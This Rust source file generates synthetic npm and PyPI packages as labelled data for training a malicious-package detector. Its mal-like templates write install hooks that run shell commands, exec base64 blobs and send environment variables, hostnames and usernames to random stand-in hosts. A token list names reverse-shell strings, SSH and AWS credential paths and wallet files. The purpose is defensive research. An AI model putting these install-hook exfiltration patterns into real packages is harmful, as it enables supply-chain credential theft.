//! Seeded generator of synthetic npm and PyPI packages.
//!
//! Benign-like packages carry several ordinary source files, documentation
//! and occasionally a build hook, a URL or an inline data blob. Mal-like
//! packages usually carry an install hook, a high-entropy base64 payload,
//! exfiltration URLs and sensitive tokens; a fraction are "stealthy" and hide
//! a short payload inside otherwise ordinary code. Both classes overlap, so
//! the classification task is not trivially separable.

use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use crate::dataset::{Dataset, LabeledSample};
use crate::features::{extract_features, FeatureSchema, SensitiveDictionary};
use crate::ingest::{build_tar_gz, ArchiveEntry, PackageArtifact, PackageFile};
use crate::models::Label;
use crate::Ecosystem;

const WORDS: &[&str] = &[
    "data", "value", "result", "config", "options", "callback", "index", "item", "list", "user", "name", "path",
    "file", "buffer", "request", "response", "handler", "util", "parse", "format", "token", "stream", "cache",
    "event", "queue", "node", "tree", "color", "theme", "route", "store", "state", "query", "schema", "model",
    "view", "render", "layout", "width", "height", "count", "offset", "limit", "page", "size", "text", "title",
];

const MESSAGES: &[&str] = &[
    "Invalid argument",
    "utf8",
    "module not found",
    "expected a string",
    "done",
    "ready",
    "Cannot read configuration",
    "default",
    "application/json",
    "Content-Type",
    "value out of range",
    "not implemented",
    "warning: deprecated option",
    "index must be a number",
];

const STEALTH_TOKENS: &[&str] = &["process.env", "os.environ", "whoami", "hostname", "/etc/passwd", ".npmrc", "ipify"];

const LOUD_TOKENS: &[&str] = &[
    "child_process",
    "/bin/sh",
    "bash -i",
    "/dev/tcp/",
    "curl -s",
    "/tmp/",
    ".ssh/id_rsa",
    ".aws/credentials",
    "discord.com/api/webhooks",
    "pastebin",
    "base64 -d",
    "uname -a",
    "wallet.dat",
];

/// A generated package as a list of archive members.
#[derive(Debug, Clone, PartialEq)]
pub struct SynthPackage {
    pub ecosystem: Ecosystem,
    pub name: String,
    pub version: String,
    pub malicious: bool,
    pub files: Vec<(String, Vec<u8>)>,
}

impl SynthPackage {
    pub fn artifact(&self) -> PackageArtifact {
        let files = self.files.iter().map(|(p, c)| PackageFile::new(p.clone(), c.clone())).collect();
        PackageArtifact::new(self.ecosystem, self.name.clone(), self.version.clone(), files)
    }

    pub fn archive_file_name(&self) -> String {
        match self.ecosystem {
            Ecosystem::Npm => format!("{}-{}.tgz", self.name, self.version),
            Ecosystem::Pypi => format!("{}-{}.tar.gz", self.name, self.version),
        }
    }

    /// Gzip tar of the package, as a registry would serve it.
    pub fn archive_bytes(&self) -> Vec<u8> {
        let entries: Vec<ArchiveEntry> = self.files.iter().map(|(p, c)| ArchiveEntry::file(p.clone(), c.clone())).collect();
        build_tar_gz(&entries).expect("in-memory tar never fails")
    }

    pub fn label(&self) -> Label {
        if self.malicious {
            Label::Malicious
        } else {
            Label::Benign
        }
    }
}

fn word(rng: &mut ChaCha8Rng) -> &'static str {
    WORDS.choose(rng).expect("non-empty")
}

fn camel(rng: &mut ChaCha8Rng) -> String {
    let a = word(rng);
    let b = word(rng);
    let mut s = a.to_string();
    let mut c = b.chars();
    if let Some(f) = c.next() {
        s.push(f.to_ascii_uppercase());
        s.extend(c);
    }
    s
}

fn snake(rng: &mut ChaCha8Rng) -> String {
    format!("{}_{}", word(rng), word(rng))
}

fn base64_blob(rng: &mut ChaCha8Rng, lo: usize, hi: usize) -> String {
    let n = rng.random_range(lo..hi);
    let bytes: Vec<u8> = (0..n).map(|_| rng.random()).collect();
    data_encoding::BASE64.encode(&bytes)
}

fn hex_name(rng: &mut ChaCha8Rng) -> String {
    format!("_0x{:04x}{:02x}", rng.random::<u16>(), rng.random::<u8>())
}

fn host(rng: &mut ChaCha8Rng) -> String {
    let tld = ["xyz", "top", "ru", "io", "cc"].choose(rng).expect("non-empty");
    let label: String = (0..rng.random_range(6..12)).map(|_| rng.random_range(b'a'..=b'z') as char).collect();
    format!("{label}.{tld}")
}

fn ip(rng: &mut ChaCha8Rng) -> String {
    format!("{}.{}.{}.{}", rng.random_range(11..223), rng.random::<u8>(), rng.random::<u8>(), rng.random_range(1..255))
}

fn js_function(rng: &mut ChaCha8Rng) -> String {
    let f = camel(rng);
    let (a, b, c) = (word(rng), camel(rng), camel(rng));
    let msg = MESSAGES.choose(rng).expect("non-empty");
    let mut s = format!("function {f}({a}, {b}) {{\n  if (!{a}) {{\n    throw new Error('{msg}');\n  }}\n");
    for _ in 0..rng.random_range(1..5) {
        match rng.random_range(0..4) {
            0 => s.push_str(&format!("  const {c} = {a}.map((x) => x + {b});\n")),
            1 => s.push_str(&format!("  for (let i = 0; i < {a}.length; i++) {{\n    {a}[i] = {a}[i] * 2;\n  }}\n")),
            2 => s.push_str(&format!("  const {c} = Object.assign({{}}, {b}, {{ {}: '{}' }});\n", word(rng), word(rng))),
            _ => s.push_str(&format!("  console.log('{}', {a});\n", MESSAGES.choose(rng).expect("non-empty"))),
        }
    }
    s.push_str(&format!("  return {a};\n}}\n\n"));
    s
}

fn js_module(rng: &mut ChaCha8Rng) -> String {
    let mut s = String::from("'use strict';\n\nconst path = require('path');\nconst util = require('util');\n\n");
    let mut names = Vec::new();
    for _ in 0..rng.random_range(2..8) {
        let f = js_function(rng);
        names.push(f.split(['(', ' ']).nth(1).unwrap_or("f").to_string());
        s.push_str(&f);
    }
    s.push_str(&format!("module.exports = {{ {} }};\n", names.join(", ")));
    s
}

fn py_function(rng: &mut ChaCha8Rng) -> String {
    let f = snake(rng);
    let (a, b) = (word(rng), snake(rng));
    let msg = MESSAGES.choose(rng).expect("non-empty");
    let mut s = format!("def {f}({a}, {b}=None):\n    \"\"\"Return the {} of {a}.\"\"\"\n    if not {a}:\n        raise ValueError(\"{msg}\")\n", word(rng));
    for _ in 0..rng.random_range(1..5) {
        match rng.random_range(0..4) {
            0 => s.push_str(&format!("    {b} = [x + 1 for x in {a}]\n")),
            1 => s.push_str(&format!("    for i in range(len({a})):\n        {a}[i] = {a}[i] * 2\n")),
            2 => s.push_str(&format!("    {b} = dict({}='{}')\n", word(rng), word(rng))),
            _ => s.push_str(&format!("    print(\"{}\", {a})\n", MESSAGES.choose(rng).expect("non-empty"))),
        }
    }
    s.push_str(&format!("    return {a}\n\n\n"));
    s
}

fn py_module(rng: &mut ChaCha8Rng) -> String {
    let mut s = String::from("import os\nimport json\n\n\n");
    for _ in 0..rng.random_range(2..8) {
        s.push_str(&py_function(rng));
    }
    s
}

fn readme(rng: &mut ChaCha8Rng, name: &str) -> String {
    let mut s = format!("# {name}\n\nA small library for {} {}.\n\n## Usage\n\n", word(rng), word(rng));
    for _ in 0..rng.random_range(1..6) {
        s.push_str(&format!("Call `{}` to {} the {}.\n", camel(rng), word(rng), word(rng)));
    }
    s
}

fn exfil_url(rng: &mut ChaCha8Rng) -> String {
    if rng.random_bool(0.4) {
        format!("http://{}:{}/c", ip(rng), rng.random_range(1024..65535))
    } else {
        format!("https://{}/collect", host(rng))
    }
}

fn js_payload(rng: &mut ChaCha8Rng, loud: bool) -> String {
    if !loud {
        let token = STEALTH_TOKENS.choose(rng).expect("non-empty");
        return format!(
            "const probe = '{token}';\nrequire('https').get('{}?d=' + Buffer.from(JSON.stringify(process.env)).toString('hex'));\n",
            exfil_url(rng)
        );
    }
    let obf = rng.random_bool(0.5);
    let v = |rng: &mut ChaCha8Rng, plain: &str| if obf { hex_name(rng) } else { plain.to_string() };
    let (cp, pl, hst, dat) = (v(rng, "cp"), v(rng, "payload"), v(rng, "target"), v(rng, "info"));
    let mut s = format!("const {cp} = require('child_process');\nconst os = require('os');\n");
    let blob = rng.random_bool(0.85);
    if blob {
        s.push_str(&format!("const {pl} = '{}';\n", base64_blob(rng, 90, 600)));
    }
    s.push_str(&format!("const {hst} = '{}';\n", exfil_url(rng)));
    s.push_str(&format!(
        "const {dat} = JSON.stringify({{ h: os.hostname(), u: os.userInfo().username, e: process.env }});\n"
    ));
    for t in { let n = rng.random_range(1..5); LOUD_TOKENS.choose_multiple(rng, n) } {
        s.push_str(&format!("{cp}.exec('{t}');\n"));
    }
    s.push_str(&format!("require('https').get({hst} + '?d=' + Buffer.from({dat}).toString('base64'));\n"));
    if blob {
        s.push_str(&format!("{cp}.exec(Buffer.from({pl}, 'base64').toString());\n"));
    }
    s
}

fn py_payload(rng: &mut ChaCha8Rng, loud: bool) -> String {
    if !loud {
        let token = STEALTH_TOKENS.choose(rng).expect("non-empty");
        return format!(
            "import urllib.request\nprobe = \"{token}\"\nurllib.request.urlopen(\"{}?u=\" + str(dict(os.environ)))\n",
            exfil_url(rng)
        );
    }
    let mut s = String::from("import os, base64, subprocess, urllib.request\n");
    if rng.random_bool(0.85) {
        s.push_str(&format!("exec(base64.b64decode(\"{}\"))\n", base64_blob(rng, 90, 600)));
    }
    s.push_str(&format!("urllib.request.urlopen(\"{}?u=\" + os.environ.get(\"USER\", \"\"))\n", exfil_url(rng)));
    for t in { let n = rng.random_range(1..5); LOUD_TOKENS.choose_multiple(rng, n) } {
        s.push_str(&format!("subprocess.call(\"{t}\", shell=True)\n"));
    }
    s
}

fn npm_package(rng: &mut ChaCha8Rng, name: &str, version: &str, malicious: bool) -> Vec<(String, String)> {
    let mut files = Vec::new();
    let stealthy = malicious && rng.random_bool(0.2);
    let hook = if malicious { !stealthy && rng.random_bool(0.9) } else { rng.random_bool(0.08) };
    let mut scripts = vec![format!("\"test\": \"{}\"", ["jest", "mocha", "node test.js"].choose(rng).expect("non-empty"))];
    if hook {
        let (key, cmd) = if malicious {
            (["preinstall", "install", "postinstall"].choose(rng).expect("non-empty").to_string(), "node install.js".to_string())
        } else {
            ("postinstall".to_string(), ["node-gyp rebuild", "node scripts/build.js", "husky install"].choose(rng).expect("non-empty").to_string())
        };
        scripts.push(format!("\"{key}\": \"{cmd}\""));
    }
    let homepage = if rng.random_bool(0.5) { format!(",\n  \"homepage\": \"https://github.com/{}/{name}\"", word(rng)) } else { String::new() };
    files.push((
        "package/package.json".to_string(),
        format!(
            "{{\n  \"name\": \"{name}\",\n  \"version\": \"{version}\",\n  \"description\": \"{} {} helpers\",\n  \"main\": \"index.js\",\n  \"scripts\": {{\n    {}\n  }},\n  \"license\": \"MIT\"{homepage}\n}}\n",
            word(rng),
            word(rng),
            scripts.join(",\n    ")
        ),
    ));
    if malicious && !stealthy {
        if hook {
            files.push(("package/install.js".to_string(), js_payload(rng, true)));
        }
        let mut index = if rng.random_bool(0.5) { js_module(rng) } else { String::from("module.exports = {};\n") };
        if !hook {
            index.push_str(&js_payload(rng, true));
        }
        files.push(("package/index.js".to_string(), index));
        if rng.random_bool(0.5) {
            files.push(("package/README.md".to_string(), readme(rng, name)));
        }
    } else {
        let mut index = js_module(rng);
        if stealthy {
            index.push_str(&js_payload(rng, false));
        } else {
            if rng.random_bool(0.1) {
                index.push_str(&format!("const logo = 'data:image/png;base64,{}';\n", base64_blob(rng, 60, 300)));
            }
            if rng.random_bool(0.25) {
                index.push_str("const debug = process.env.DEBUG === '1';\n");
            }
            if rng.random_bool(0.08) {
                index.push_str("const { execSync } = require('child_process');\nconst rev = execSync('git rev-parse HEAD').toString();\n");
            }
            if rng.random_bool(0.08) {
                index.push_str(&format!("const probe = '{}';\n", STEALTH_TOKENS.choose(rng).expect("non-empty")));
            }
            if rng.random_bool(0.3) {
                index.push_str(&format!("const DOCS = 'https://{}.github.io/{name}/';\n", word(rng)));
            }
        }
        files.push(("package/index.js".to_string(), index));
        for i in 0..rng.random_range(0..6) {
            files.push((format!("package/lib/{}{i}.js", word(rng)), js_module(rng)));
        }
        files.push(("package/README.md".to_string(), readme(rng, name)));
        files.push(("package/LICENSE".to_string(), "MIT License\n\nPermission is hereby granted, free of charge.\n".to_string()));
        if rng.random_bool(0.4) {
            files.push(("package/index.d.ts".to_string(), format!("export declare function {}(x: string): string;\n", camel(rng))));
        }
        if rng.random_bool(0.2) {
            files.push(("package/dist/style.css".to_string(), ".root { color: red; }\n".to_string()));
        }
        if hook && rng.random_bool(0.5) {
            files.push(("package/scripts/build.js".to_string(), js_module(rng)));
        }
    }
    files
}

fn pypi_package(rng: &mut ChaCha8Rng, name: &str, version: &str, malicious: bool) -> Vec<(String, String)> {
    let root = format!("{name}-{version}");
    let pkg = name.replace('-', "_");
    let mut files = vec![(
        format!("{root}/PKG-INFO"),
        format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: {} {} tools\n", word(rng), word(rng)),
    )];
    let stealthy = malicious && rng.random_bool(0.2);
    let mut setup = String::from("from setuptools import setup, find_packages\n");
    if malicious && !stealthy {
        setup.push_str("from setuptools.command.install import install\n\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n");
        for line in py_payload(rng, true).lines() {
            setup.push_str(&format!("        {line}\n"));
        }
        setup.push_str(&format!(
            "\n\nsetup(\n    name=\"{name}\",\n    version=\"{version}\",\n    packages=[\"{pkg}\"],\n    cmdclass={{\"install\": PostInstall}},\n)\n"
        ));
    } else {
        let url = if rng.random_bool(0.6) { format!("\n    url=\"https://github.com/{}/{name}\",", word(rng)) } else { String::new() };
        setup.push_str(&format!(
            "\n\nsetup(\n    name=\"{name}\",\n    version=\"{version}\",\n    description=\"{} {}\",\n    packages=find_packages(),{url}\n    install_requires=[\"{}\"],\n)\n",
            word(rng),
            word(rng),
            ["requests", "six", "click", "numpy"].choose(rng).expect("non-empty")
        ));
    }
    files.push((format!("{root}/setup.py"), setup));
    if malicious && !stealthy {
        let init = if rng.random_bool(0.5) { py_module(rng) } else { String::new() };
        files.push((format!("{root}/{pkg}/__init__.py"), init));
    } else {
        let mut init = py_module(rng);
        if stealthy {
            init.push_str(&py_payload(rng, false));
        } else {
            if rng.random_bool(0.1) {
                init.push_str(&format!("ICON = \"{}\"\n", base64_blob(rng, 60, 300)));
            }
            if rng.random_bool(0.25) {
                init.push_str("DEBUG = os.environ.get(\"DEBUG\") == \"1\"\n");
            }
            if rng.random_bool(0.08) {
                init.push_str("import subprocess\nREV = subprocess.check_output([\"git\", \"rev-parse\", \"HEAD\"])\n");
            }
            if rng.random_bool(0.08) {
                init.push_str(&format!("PROBE = \"{}\"\n", STEALTH_TOKENS.choose(rng).expect("non-empty")));
            }
        }
        files.push((format!("{root}/{pkg}/__init__.py"), init));
        for i in 0..rng.random_range(0..6) {
            files.push((format!("{root}/{pkg}/{}{i}.py", word(rng)), py_module(rng)));
        }
        files.push((format!("{root}/README.md"), readme(rng, name)));
        if rng.random_bool(0.5) {
            files.push((format!("{root}/tests/test_{}.py", word(rng)), py_module(rng)));
        }
        if rng.random_bool(0.3) {
            files.push((format!("{root}/setup.cfg"), "[metadata]\nlicense = MIT\n".to_string()));
        }
    }
    files
}

/// One package; `index` keeps names unique within a corpus.
pub fn generate_package(rng: &mut ChaCha8Rng, ecosystem: Ecosystem, malicious: bool, index: usize) -> SynthPackage {
    let tag = if malicious { "m" } else { "b" };
    let name = format!("{}-{}-{tag}{index}", word(rng), word(rng));
    let version = format!("{}.{}.{}", rng.random_range(0..4), rng.random_range(0..20), rng.random_range(0..10));
    let files = match ecosystem {
        Ecosystem::Npm => npm_package(rng, &name, &version, malicious),
        Ecosystem::Pypi => pypi_package(rng, &name, &version, malicious),
    };
    SynthPackage {
        ecosystem,
        name,
        version,
        malicious,
        files: files.into_iter().map(|(p, c)| (p, c.into_bytes())).collect(),
    }
}

/// `n_malicious` mal-like packages followed by `n_benign` benign-like ones.
pub fn generate_corpus(ecosystem: Ecosystem, n_benign: usize, n_malicious: usize, seed: u64) -> Vec<SynthPackage> {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let mut out = Vec::with_capacity(n_benign + n_malicious);
    for i in 0..n_malicious {
        out.push(generate_package(&mut rng, ecosystem, true, i));
    }
    for i in 0..n_benign {
        out.push(generate_package(&mut rng, ecosystem, false, i));
    }
    out
}

pub fn labeled_samples(packages: &[SynthPackage], schema: &FeatureSchema, dict: &SensitiveDictionary) -> Vec<LabeledSample> {
    packages
        .iter()
        .map(|p| LabeledSample {
            vector: extract_features(&p.artifact(), schema, dict),
            label: p.label(),
            ecosystem: p.ecosystem,
            name: p.name.clone(),
            version: p.version.clone(),
            campaign_id: None,
        })
        .collect()
}

/// A labeled dataset of generated packages for one ecosystem.
pub fn synthetic_dataset(
    ecosystem: Ecosystem,
    n_benign: usize,
    n_malicious: usize,
    seed: u64,
    schema: &FeatureSchema,
    dict: &SensitiveDictionary,
) -> Dataset {
    let pkgs = generate_corpus(ecosystem, n_benign, n_malicious, seed);
    let mut ds = Dataset::new(schema, labeled_samples(&pkgs, schema, dict)).expect("generated names are unique");
    ds.declared_ratio = Some(n_benign as f64 / (n_benign + n_malicious).max(1) as f64);
    ds.provenance.push(format!("synthetic {ecosystem}: {n_malicious} mal-like + {n_benign} benign-like, seed {seed}"));
    ds
}
